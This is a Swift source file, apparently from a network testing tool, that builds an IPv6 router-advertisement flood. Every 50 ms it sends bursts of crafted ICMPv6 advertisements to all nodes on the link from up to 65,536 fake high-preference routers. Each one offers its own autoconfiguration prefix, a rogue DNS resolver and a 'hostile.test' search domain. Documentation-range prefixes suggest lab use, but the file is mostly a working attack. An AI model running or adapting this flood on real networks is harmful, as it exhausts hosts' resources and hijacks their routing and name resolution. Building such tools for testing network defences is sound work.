import FrameBuilding
package import PacketDecoding

/// Routers without number advertise themselves, each with a prefix, a resolver and a search domain of its own.
package struct RouterFlood: Attack {
    package let name = "a flood of router advertisements"
    package let station = StationIdentity.floodingRouter
    package let period: Duration? = .milliseconds(50)

    /// How many routers there are before the first one speaks again.
    package let routers: Int
    private var next = 0

    /// How many speak in each period.
    private static let burst = 5

    /// Creates a flood of 1 to 65,536 routers.
    package init(routers: Int = 256) {
        precondition((1...65_536).contains(routers), "A flood has 1 to 65,536 routers.")
        self.routers = routers
    }

    package mutating func speak() -> [[UInt8]] {
        (0..<Self.burst).map { _ in
            defer { next = (next + 1) % routers }
            return advertisement(of: next)
        }
    }

    /// The prefix that a router offers, of the documentation's network (RFC 3849).
    package static func prefix(of router: Int) -> IPv6Address {
        IPv6Address(high: 0x2001_0db8_0bad_0000 | UInt64(router), low: 0)
    }

    private func advertisement(of router: Int) -> [UInt8] {
        var frames = station.frames
        frames.address6 = IPv6Address(high: 0xfe80_0000_0000_0000, low: 0x0bad_0000_0000 | UInt64(router))
        // 64 hops, a router of high preference (RFC 4191) for half an hour.
        var body: [UInt8] = [64, 0x08] + bytes(UInt16(1800)) + bytes(UInt64(0))
        body += [1, 1] + station.hardware.bytes
        let prefix = Self.prefix(of: router)
        let address = bytes(prefix.high) + bytes(prefix.low)
        let lifetime = bytes(UInt32(3600))
        // On link, and for addresses that hosts make themselves.
        body += [3, 4, 64, 0xc0] + lifetime + lifetime + [0, 0, 0, 0] + address
        // A resolver and a search domain (RFC 8106).
        body += [25, 3, 0, 0] + lifetime + bytes(prefix.high) + bytes(UInt64(1))
        body += [31, 3, 0, 0] + lifetime + [7] + Array("hostile".utf8) + [4] + Array("test".utf8) + [0, 0, 0]
        return frames.icmpv6(134, to: .allNodes, body)
    }
}

extension IPv6Address {
    /// Every node of the link.
    static let allNodes = IPv6Address(high: 0xff02_0000_0000_0000, low: 1)
}
